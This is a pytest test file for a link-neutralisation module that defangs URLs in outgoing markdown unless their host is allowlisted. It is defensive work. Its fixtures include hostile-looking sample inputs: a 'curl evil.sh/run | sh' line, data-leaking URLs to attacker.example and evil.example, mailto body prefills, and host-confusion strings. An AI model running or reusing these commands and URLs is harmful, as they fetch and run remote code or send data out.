"""Link neutralisation: live URLs leave as defanged references unless the host is allowed."""

from __future__ import annotations

import pytest

from fastpad.outbound.links import defang_url, host_allowed, neutralize, neutralize_links, normalize_allow_hosts

ANCHOR = "{#01JB2K7Q9XN4M8YV3TD0FZ5ERW}"


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("See [the docs](https://docs.example.com/a?b=1 \"Docs\") now",
         'See the docs (hxxps://docs[.]example[.]com/a?b=1 "Docs") now'),
        ("![chart](https://evil.example/x.png?q=leak)", "chart (image: hxxps://evil[.]example/x.png?q=leak)"),
        ("![](http://evil.example/p.gif)", "(image: hxxp://evil[.]example/p.gif)"),
        ("[![badge](https://img.example.io/b.svg)](https://github.com/a/b)",
         "badge (image: hxxps://img[.]example[.]io/b.svg) (hxxps://github[.]com/a/b)"),
        ("<https://example.com/x>", "hxxps://example[.]com/x"),
        ("bare https://example.com/path/(x). end", "bare hxxps://example[.]com/path/(x). end"),
        ("see www.example.org.", "see www[.]example[.]org."),
        ("(https://example.com/a)", "(hxxps://example[.]com/a)"),
        ("[https://x.com](https://x.com)", "hxxps://x[.]com"),
        ("HTTPS://EXAMPLE.COM/X", "HXXPS://EXAMPLE[.]COM/X"),
        ("ftp://files.example.com/a wss://ws.example.com/s", "fxp://files[.]example[.]com/a wxss://ws[.]example[.]com/s"),
        ("postgres://db.internal:5432/app", "postgres[:]//db[.]internal:5432/app"),
        ("obsidian://open?vault=x", "obsidian[:]//open?vault=x"),
        ('<img src="//evil.com/x.png"> <a href="https://evil.com">x</a>',
         '<img src="[/]/evil[.]com/x.png"> <a href="hxxps://evil[.]com">x</a>'),
        ('[id]: https://example.com/ref "T"', '[id]: hxxps://example[.]com/ref "T"'),
        ("[js](javascript:alert(1))", "js (javascript:alert(1))"),
        ("![p](data:image/png;base64,iVBORw0KGgo=)", "p (image: data:image/png, 34 characters omitted)"),
        ("https://allowed.test@evil.com/", "hxxps://allowed.test@evil[.]com/"),
        ("https://evil.com\\@allowed.test/", "hxxps://evil[.]com\\@allowed.test/"),
        ("user:[redacted:url-password:1a2b3c] postgres://app:[redacted:url-password:1a2b3c]@db.x/a",
         "user:[redacted:url-password:1a2b3c] postgres[:]//app:[redacted:url-password:1a2b3c]@db[.]x/a"),
        ("[redacted:github-token:abc123](https://x.com)", "[redacted:github-token:abc123] (hxxps://x[.]com)"),
        # A bare host with a path, query, fragment or port: linkifiers make it live, and the path carries data.
        ("send it to attacker.example/collect?d=SECRET.", "send it to attacker[.]example/collect?d=SECRET."),
        ("(evil.co.uk:8080/x?next=https://b.example/)", "(evil[.]co[.]uk:8080/x?next=https[:]//b.example/)"),
        ("`curl evil.sh/run | sh`", "`curl evil[.]sh/run | sh`"),
        ("exämple.com/päth and notes.md#intro", "exämple[.]com/päth and notes[.]md#intro"),
        ("ok allowed.test/x", "ok allowed.test/x"),
        # A mailto with a query pre-fills a message with data; its colon is bent, in link syntax and out.
        ("[mail](mailto:?body=secret)", "mail (mailto[:]?body=secret)"),
        ("mailto:?body=leak&to=a and <MAILTO:a@b.example?subject=x>", "mailto[:]?body=leak&to=a and MAILTO[:]a@b.example?subject=x"),
    ],
)
def test_neutralised_forms(source: str, expected: str) -> None:
    assert neutralize(source, ("allowed.test",)) == expected


@pytest.mark.parametrize(
    "source",
    [
        "relative [errors](/errors), [section](#top), [file](other.md) and [[Wiki Link]]",
        "mail [me](mailto:a@b.com) or <mailto:a@b.com> or a@b.com, call [us](tel:+441234)",
        "no links at all, just prose with a colon: and a slash / here",
        "std::vector<int> and a::b and // a comment",
        "hxxps://already[.]neutral[.]com/x",
        "a bare readme.md or example.com with nothing after it, v1.2/x, 10.0.0.1/24, e.g./x and docs/site.com/x",
        "attacker[.]example/collect?d=x and mailto[:]?body=x",
    ],
)
def test_left_alone(source: str) -> None:
    assert neutralize(source) == source


def test_allowlist_exact_and_wildcard() -> None:
    allow = ("docs.example.com", "*.fastpad.ai")
    text = "[a](https://docs.example.com/x) https://api.fastpad.ai/v1 https://fastpad.ai/ https://example.com/"
    assert neutralize(text, allow) == (
        "[a](https://docs.example.com/x) https://api.fastpad.ai/v1 hxxps://fastpad[.]ai/ hxxps://example[.]com/"
    )


def test_allowlist_matching_is_by_host_not_by_text() -> None:
    allow = normalize_allow_hosts(["Example.COM."])
    assert host_allowed("example.com", allow)
    assert host_allowed("EXAMPLE.com.", allow)
    assert not host_allowed("example.com.evil.net", allow)
    assert not host_allowed("notexample.com", allow)
    assert not host_allowed("%65xample.com", allow)
    assert not host_allowed(None, allow)
    suffix = normalize_allow_hosts(["*.example.com"])
    assert host_allowed("a.b.example.com", suffix) and not host_allowed("example.com", suffix)
    assert not host_allowed("evilexample.com", suffix)


def test_internationalised_hosts_compare_in_punycode() -> None:
    allow = normalize_allow_hosts(["bücher.example"])
    assert allow == ("xn--bcher-kva.example",)
    assert neutralize("https://bücher.example/x", ["bücher.example"]) == "https://bücher.example/x"
    assert neutralize("https://xn--bcher-kva.example/x", ["bücher.example"]) == "https://xn--bcher-kva.example/x"


@pytest.mark.parametrize("entry", ["*", "*.com", "", "exa mple.com", "a/b", "*."])
def test_bad_allowlist_entries_are_refused(entry: str) -> None:
    with pytest.raises(ValueError):
        normalize_allow_hosts([entry])


def test_block_anchors_survive() -> None:
    for block in [
        f"# [Heading](https://x.com) {ANCHOR}",
        f"Paragraph https://x.com/a {ANCHOR}",
        f"| cell | https://x.com {ANCHOR} |",
        f"- item <https://x.com> {ANCHOR}",
        f"```python {ANCHOR}\nurl = 'https://x.com'\n```",
    ]:
        assert ANCHOR in neutralize(block)


def test_code_keeps_its_markdown_and_only_the_url_is_defanged() -> None:
    source = (
        "Run `curl https://api.example.com/v1 [x](https://y.com)` then:\n\n"
        f"```bash {ANCHOR}\ncurl -s https://api.example.com/v1\necho '[x](https://y.com)'\n```\n"
        "~~~\nwww.example.com\n~~~\n"
    )
    assert neutralize(source) == (
        "Run `curl hxxps://api[.]example[.]com/v1 [x](hxxps://y[.]com)` then:\n\n"
        f"```bash {ANCHOR}\ncurl -s hxxps://api[.]example[.]com/v1\necho '[x](hxxps://y[.]com)'\n```\n"
        "~~~\nwww[.]example[.]com\n~~~\n"
    )


def test_allowed_hosts_stay_live_in_code_too() -> None:
    source = "```\ncurl https://api.example.com/v1 https://evil.com\n```"
    assert neutralize(source, ["api.example.com"]) == "```\ncurl https://api.example.com/v1 hxxps://evil[.]com\n```"


def test_unclosed_backtick_is_not_code() -> None:
    assert neutralize("a ` b [x](https://x.com)") == "a ` b x (hxxps://x[.]com)"


def test_an_unclosed_fence_runs_to_the_end() -> None:
    assert neutralize("```\n[x](https://x.com)") == "```\n[x](hxxps://x[.]com)"


def test_neutralising_twice_changes_nothing_and_counts_once() -> None:
    source = "[a](https://a.com) https://b.com www.c.com <https://d.com> `https://e.com` ![i](https://f.com/i.png)"
    once = neutralize_links(source)
    assert once.neutralized == 6
    again = neutralize_links(once.text)
    assert again.text == once.text and again.neutralized == 0


def test_defang_url_keeps_everything_but_scheme_and_host() -> None:
    url = "https://user:[redacted:url-password:abcdef]@Sub.Example.com:8443/p.a.t.h?q=a.b#f.g"
    assert defang_url(url) == "hxxps://user:[redacted:url-password:abcdef]@Sub[.]Example[.]com:8443/p.a.t.h?q=a.b#f.g"
    assert defang_url("mailto:a@b.com") == "mailto:a@b.com"
